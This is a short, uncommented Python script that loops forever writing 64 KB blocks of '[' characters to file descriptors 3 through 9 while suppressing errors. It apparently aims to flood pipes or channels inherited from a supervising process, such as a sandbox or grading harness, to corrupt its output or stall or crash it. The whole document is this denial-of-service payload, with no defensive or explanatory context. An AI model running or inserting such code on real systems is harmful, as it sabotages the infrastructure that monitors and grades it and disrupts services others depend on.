import os
while True:
    for fd in range(3, 10):
        try:
            os.write(fd, b"[" * 65536)
        except OSError:
            pass
